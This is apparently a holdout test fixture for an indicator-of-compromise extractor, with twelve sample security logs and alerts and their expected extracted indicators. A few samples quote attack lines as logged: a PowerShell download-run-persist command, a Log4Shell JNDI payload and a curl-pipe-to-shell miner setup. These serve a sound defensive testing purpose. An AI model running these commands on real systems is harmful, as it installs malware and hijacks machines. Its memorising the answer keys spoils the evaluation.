import { createHash } from 'node:crypto';
import type { LabeledDoc } from '../documents';

const digest = (alg: 'md5' | 'sha1' | 'sha256', seed: string): string =>
  createHash(alg).update(seed).digest('hex');
const t = (type: string, value: string) => ({ type, value });

const sha256a = digest('sha256', 'ho-1');
const sha1b = digest('sha1', 'ho-8');
const md5b = digest('md5', 'ho-8');
const sha256c = digest('sha256', 'ho-10');
const ja3 = digest('md5', 'ho-10-ja3');

/**
 * Written after the extractor was frozen and scored as first run, without fixes: the closest
 * thing here to "alerts it has never seen". Kept apart from the hand-written set so its figure
 * can be read on its own.
 */
export const HOLDOUT: LabeledDoc[] = [
  {
    id: 'ho-1-markdown-report',
    kind: 'text',
    text: [
      '## Indicators',
      '- C2: `hxxps[:]//update.windows-telemetry[.]com/api/v1` (Cloudflare-fronted)',
      '- Staging: 194[.]5[.]249[.]157:443',
      `- Payload: [loader.dll](hxxp://cdn.fileshare-eu[.]net/l/loader.dll) — SHA-256 \`${sha256a}\``,
      '- Mutex: Global\\3f1a2b',
      '- Exploited: CVE-2023-4966 ("Citrix Bleed"), technique T1190.',
    ].join('\n'),
    truth: [
      t('url', 'https://update.windows-telemetry.com/api/v1'),
      t('domain', 'update.windows-telemetry.com'),
      t('ipv4', '194.5.249.157'),
      t('url', 'http://cdn.fileshare-eu.net/l/loader.dll'),
      t('domain', 'cdn.fileshare-eu.net'),
      t('sha256', sha256a),
      t('cve', 'CVE-2023-4966'),
      t('mitre_technique', 'T1190'),
    ],
  },
  {
    id: 'ho-2-message-trace',
    kind: 'json',
    text: JSON.stringify({
      SenderAddress: 'ceo.office@contoso-exec.com',
      RecipientAddress: 'finance@fabrikam.com',
      Subject: 'Wire transfer – urgent',
      FromIP: '40.107.22.51',
      Status: 'Delivered',
      Size: 48213,
      Received: '2026-11-22T14:03:11Z',
    }),
    truth: [
      t('email', 'ceo.office@contoso-exec.com'),
      t('domain', 'contoso-exec.com'),
      t('email', 'finance@fabrikam.com'),
      t('domain', 'fabrikam.com'),
      t('ipv4', '40.107.22.51'),
    ],
  },
  {
    id: 'ho-3-guardduty',
    kind: 'json',
    text: JSON.stringify({
      schemaVersion: '2.0',
      accountId: '123456789012',
      region: 'eu-west-1',
      id: digest('md5', 'gd-finding'),
      type: 'UnauthorizedAccess:EC2/SSHBruteForce',
      resource: {
        instanceDetails: {
          instanceId: 'i-0a1b2c3d4e5f67890',
          networkInterfaces: [{ privateIpAddress: '172.31.40.12', publicIp: '3.250.10.77' }],
        },
      },
      service: {
        action: {
          networkConnectionAction: {
            remoteIpDetails: {
              ipAddressV4: '218.92.0.107',
              organization: { asn: '4134', asnOrg: 'CHINANET-BACKBONE' },
            },
            localPortDetails: { port: 22 },
          },
        },
        count: 412,
      },
      severity: 5,
      title: '218.92.0.107 is performing SSH brute force attacks against i-0a1b2c3d4e5f67890.',
      createdAt: '2026-11-22T09:00:00.000Z',
    }),
    truth: [
      t('ipv4', '172.31.40.12'),
      t('ipv4', '3.250.10.77'),
      t('ipv4', '218.92.0.107'),
      t('asn', 'AS4134'),
    ],
  },
  {
    id: 'ho-4-okta',
    kind: 'json',
    text: JSON.stringify({
      actor: { alternateId: 'm.rossi@globex.io', displayName: 'Mario Rossi' },
      client: {
        ipAddress: '185.220.100.252',
        userAgent: { rawUserAgent: 'python-requests/2.31.0', os: 'Unknown', browser: 'UNKNOWN' },
        geographicalContext: { country: 'Germany' },
      },
      eventType: 'user.session.start',
      outcome: { result: 'FAILURE', reason: 'VERIFICATION_ERROR' },
      securityContext: {
        asNumber: 60729,
        asOrg: 'zwiebelfreunde e.v.',
        isProxy: true,
        domain: 'torservers.net',
      },
      uuid: '8f3c1e9a-77b1-11ef-9a3c-2b1f4d5e6a7b',
      published: '2026-11-22T11:11:11.111Z',
    }),
    truth: [
      t('email', 'm.rossi@globex.io'),
      t('domain', 'globex.io'),
      t('ipv4', '185.220.100.252'),
      t('asn', 'AS60729'),
      t('domain', 'torservers.net'),
    ],
  },
  {
    id: 'ho-5-soc-ticket',
    kind: 'text',
    text: 'Ticket #48213: outbound from 10.10.8.21:51234 -> 45.137.21.9:8443 flagged. Also seen ::ffff:45.137.21.9 in IIS logs. Block 45.137.21.0/24 at the edge. Host WKS-8812 (MAC 00:0c:29:9f:3a:1b) re-imaged. Refs: https://www.virustotal.com/gui/ip-address/45.137.21.9, CVE-2021-26855.',
    truth: [
      t('ipv4', '10.10.8.21'),
      t('ipv4', '45.137.21.9'),
      t('ipv6', '::ffff:45.137.21.9'),
      t('ipv4', '45.137.21.0'),
      t('mac', '00:0c:29:9f:3a:1b'),
      t('url', 'https://www.virustotal.com/gui/ip-address/45.137.21.9'),
      t('domain', 'www.virustotal.com'),
      t('cve', 'CVE-2021-26855'),
    ],
  },
  {
    id: 'ho-6-scriptblock',
    kind: 'text',
    text: `Creating Scriptblock text (1 of 1): $c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:120.0) Gecko/20100101 Firefox/120.0');$c.DownloadFile('http://45.9.74.32/a/svchost.exe',"$env:APPDATA\\svchost.exe");Start-Process "$env:APPDATA\\svchost.exe"; New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name 'svc' -Value "$env:APPDATA\\svchost.exe" ScriptBlock ID: 5c1e9d7a-3b2f-4c8e-9a1d-7e6f5a4b3c2d Path: C:\\Users\\lab\\Desktop\\run.ps1`,
    truth: [
      t('url', 'http://45.9.74.32/a/svchost.exe'),
      t('ipv4', '45.9.74.32'),
      t('registry_key', 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'),
      t('file_path', 'C:\\Users\\lab\\Desktop\\run.ps1'),
    ],
  },
  {
    id: 'ho-7-fortigate-kv',
    kind: 'text',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload as the firewall logged it
    text: 'date=2026-11-22 time=18:42:07 devname="FGT-HQ" logid="0419016384" type="utm" subtype="ips" level="alert" srcip=192.168.10.44 srcport=60122 dstip=104.18.32.7 dstport=443 attack="Log4j2.Remote.Code.Execution" ref="http://www.fortinet.com/ids/VID51006" msg="applications3: Log4j2.Remote.Code.Execution," cve="CVE-2021-44228" hostname="api.payments-gw.com" url="/api/${jndi:ldap://198.51.100.77:1389/a}"',
    truth: [
      t('ipv4', '192.168.10.44'),
      t('ipv4', '104.18.32.7'),
      t('url', 'http://www.fortinet.com/ids/VID51006'),
      t('domain', 'www.fortinet.com'),
      t('cve', 'CVE-2021-44228'),
      t('domain', 'api.payments-gw.com'),
      t('url', 'ldap://198.51.100.77:1389/a'),
      t('ipv4', '198.51.100.77'),
    ],
  },
  {
    id: 'ho-8-edr-threat',
    kind: 'json',
    text: JSON.stringify({
      threatInfo: {
        threatName: 'Invoice_2611.pdf.exe',
        classification: 'Trojan',
        sha1: sha1b,
        md5: md5b,
        filePath: '\\Device\\HarddiskVolume2\\Users\\kchen\\Downloads\\Invoice_2611.pdf.exe',
        originatorProcess: 'OUTLOOK.EXE',
        identifiedAt: '2026-11-22T08:15:31.000Z',
        storyline: 'A3F5C7E9B1D24680',
      },
      agentRealtimeInfo: {
        agentComputerName: 'FIN-LT-09',
        agentOsName: 'Windows 11 Pro',
        agentVersion: '23.4.2.216',
        siteName: 'Initrode',
      },
      indicators: [
        {
          category: 'Persistence',
          description:
            'Created run key HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\InvoiceHelper',
          tactics: [{ name: 'Persistence', techniques: [{ name: 'T1547.001' }] }],
        },
      ],
    }),
    truth: [
      t('sha1', sha1b),
      t('md5', md5b),
      t('file_path', '\\Device\\HarddiskVolume2\\Users\\kchen\\Downloads\\Invoice_2611.pdf.exe'),
      t('registry_key', 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\InvoiceHelper'),
      t('mitre_technique', 'T1547.001'),
    ],
  },
  {
    id: 'ho-9-cisco-asa',
    kind: 'text',
    text: '<166>%ASA-6-302013: Built outbound TCP connection 5566778 for outside:91.195.240.94/443 (91.195.240.94/443) to inside:10.1.20.31/52110 (203.0.113.9/52110)',
    truth: [t('ipv4', '91.195.240.94'), t('ipv4', '10.1.20.31'), t('ipv4', '203.0.113.9')],
  },
  {
    id: 'ho-10-sandbox',
    kind: 'text',
    text: `Dynamic analysis of sample ${sha256c} contacted 2 hosts: checkip.amazonaws.com (benign) and 5.255.96.114 over TLS with JA3 ${ja3}. Dropped files: %TEMP%\\GoogleUpdate.exe, C:\\Users\\Public\\Documents\\msvcr100.dll. Created service 'WinDefendSvc' via sc.exe. Mutex: Global\\MsWinZonesCacheCounterMutexA0. Yara: win_asyncrat_auto. ssdeep 6144:x9B2pTn4Qd1fGkL0sZyVcR3uW8mHjE5oXaN7qP:x9B2ptQd1fGkLsZyVcR3uW8mHjoXaNq`,
    truth: [
      t('sha256', sha256c),
      t('domain', 'checkip.amazonaws.com'),
      t('ipv4', '5.255.96.114'),
      t('md5', ja3),
      t('file_path', 'C:\\Users\\Public\\Documents\\msvcr100.dll'),
      t('ssdeep', '6144:x9B2pTn4Qd1fGkL0sZyVcR3uW8mHjE5oXaN7qP:x9B2ptQd1fGkLsZyVcR3uW8mHjoXaNq'),
    ],
  },
  {
    id: 'ho-11-phish-body',
    kind: 'text',
    text: 'Hi, please review the document at https://sharepoint-docs.web.app/view?d=8812&u=a.smith%40contoso.com. If the link fails use www[.]docsend-secure[.]info. Reply to a.smith @ contoso.com if needed. — IT Support (support@contoso.com)',
    truth: [
      t('url', 'https://sharepoint-docs.web.app/view?d=8812&u=a.smith%40contoso.com'),
      t('domain', 'sharepoint-docs.web.app'),
      t('domain', 'www.docsend-secure.info'),
      t('domain', 'contoso.com'),
      t('email', 'support@contoso.com'),
    ],
  },
  {
    id: 'ho-12-k8s-audit',
    kind: 'json',
    text: JSON.stringify({
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      level: 'RequestResponse',
      auditID: '6c2e0f4b-1d3a-4b5c-8e9f-0a1b2c3d4e5f',
      verb: 'create',
      user: { username: 'system:serviceaccount:default:ci-runner' },
      sourceIPs: ['34.89.12.201'],
      userAgent: 'kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819',
      objectRef: { resource: 'pods', namespace: 'kube-system', name: 'xmrig-5f7d8' },
      requestObject: {
        spec: {
          containers: [
            {
              image: 'docker.io/minerlabs/xmrig:6.21.0',
              command: ['/bin/sh', '-c', 'curl -s http://pool.hashvault.pro/setup.sh | sh'],
            },
          ],
        },
      },
      requestReceivedTimestamp: '2026-11-22T23:59:01.123456Z',
    }),
    truth: [
      t('domain', 'audit.k8s.io'),
      t('ipv4', '34.89.12.201'),
      t('domain', 'docker.io'),
      t('file_path', '/bin/sh'),
      t('url', 'http://pool.hashvault.pro/setup.sh'),
      t('domain', 'pool.hashvault.pro'),
    ],
  },
];
